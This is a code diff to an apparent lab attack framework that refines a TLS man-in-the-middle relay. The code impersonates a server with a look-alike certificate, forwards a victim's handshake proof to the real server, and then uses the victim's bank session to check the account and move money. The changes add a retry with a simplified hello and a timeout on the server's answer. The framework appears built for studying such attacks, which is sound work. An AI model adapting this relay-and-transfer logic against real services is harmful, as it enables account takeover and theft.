@@ -13,15 +13,13 @@ from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from functools import partial
 
-import h11
-
 from attacker import scope
 from attacker.attempts import TRANSFER
 from attacker.call import FORWARD, LISTEN_INSTEAD, Call, LeakCommand, Parser, add_gateways
 from attacker.collected import Sighting
-from attacker.leak.mirror import RSA, key_exchange, messages_of, mirror_client, mirror_server, read_hello
+from attacker.leak.mirror import RSA, key_exchange, messages_of, mirror_client, mirror_server, read_hello, simplified
 from attacker.moves.make import Loot, fresh_key, look_alike_certificate
-from attacker.moves.replay import BankClient, Response, outcome_of
+from attacker.moves.replay import BankClient, Response, broken_off, outcome_of
 from attacker.position.tcp_relay import Forward, listen_at
 from lab.address import Address, host_port
 from lab.catalogue.leaks import LIVE_RELAY
@@ -41,6 +39,8 @@ from lab.tls.versions import TLS13, version_name
 
 RELAY_SECONDS = 10.0
 """The most time for one connection."""
+ANSWER_SECONDS = 5.0
+"""The most of it for the real server's answer to the proof."""
 PATIENCE_SECONDS = 15.0
 """How long the attacker waits for the next connection."""
 MAX_CLIENT_BYTES = 1 << 16
@@ -164,12 +164,9 @@ class _Relayed:
         """Both handshakes and the requests. ConnectionFailed, TlsError or OSError if the client sends no proof."""
         began = time.perf_counter()
         hello, received = await read_hello(reader)
-        real_reader, real_writer = await asyncio.open_connection(*self._target)
-        self._client = client = mirror_client(hello)
-        real = TlsStream(client, real_reader, real_writer)
+        real, local = await self._reach(hello)
+        client = self._client
         try:
-            await real.until(lambda: client.is_its_turn)
-
             self._server = server = mirror_server(client, self._impersonation.present(client.peer_chain))
             victim = TlsStream(server, reader, writer)
             await victim.take(server.receive(received))
@@ -182,7 +179,7 @@ class _Relayed:
         return ProofRelayed(
             client=host_port(writer.get_extra_info("peername")),
             listening=host_port(writer.get_extra_info("sockname")),
-            local=host_port(real_writer.get_extra_info("sockname")),
+            local=local,
             server=str(self._target),
             tls=version_name(client.version or 0),
             key_exchange=key_exchange(client),
@@ -202,6 +199,26 @@ class _Relayed:
             milliseconds=round((time.perf_counter() - began) * 1000, 2),
             connection=client.server_random.hex(),
         )
+
+    async def _reach(self, hello: ClientHello) -> tuple[TlsStream, str]:
+        """A connection to the real server, whose flight has come, and its own address. ConnectionFailed or OSError."""
+        try:
+            return await self._connect(hello)
+        except ConnectionFailed:
+            if not self._client.out_of_reach:
+                raise
+            return await self._connect(simplified(hello))
+
+    async def _connect(self, hello: ClientHello) -> tuple[TlsStream, str]:
+        reader, writer = await asyncio.open_connection(*self._target)
+        self._client = client = mirror_client(hello)
+        real = TlsStream(client, reader, writer)
+        try:
+            await real.until(lambda: client.is_its_turn)
+        except BaseException:
+            await real.close()
+            raise
+        return real, host_port(writer.get_extra_info("sockname"))
 
     def gained(self, report: ProofRelayed) -> tuple[Loot, Sighting]:
         """The loot, and where it was seen."""
@@ -227,20 +244,21 @@ class _Relayed:
         """Ends the handshake with the real server, with what the client has sent, and uses the account."""
         account: Response | None = None
         moved: Response | None = None
-        failed = Failed(None, None, "no answer")
+        failed = Failed(None, None, f"no answer within {ANSWER_SECONDS:.0f} s")
         try:
-            await real.take(self._client.go_on(self._flight()))
-            await real.handshake()
-            if self._client.request is not None:
-                host = self._server.server_name or self._target.host
-                bank = BankClient(real, host)
-                account = await bank.account()
-                if account.customer == self._victim:
-                    moved = await bank.transfer(TRANSFER)
-        except ConnectionFailed as error:
-            failed = error.failed
-        except h11.ProtocolError as error:
-            failed = Failed(None, None, f"the answer is not HTTP: {error}")
+            async with asyncio.timeout(ANSWER_SECONDS):
+                await real.take(self._client.go_on(self._flight()))
+                await real.handshake()
+                if self._client.request is not None:
+                    host = self._server.server_name or self._target.host
+                    bank = BankClient(real, host)
+                    account = await bank.account()
+                    if account.customer == self._victim:
+                        moved = await bank.transfer(TRANSFER)
+        except TimeoutError:
+            pass
+        except Exception as error:
+            failed = broken_off(error)
         return account, moved, failed
 
     def _flight(self) -> Flight:
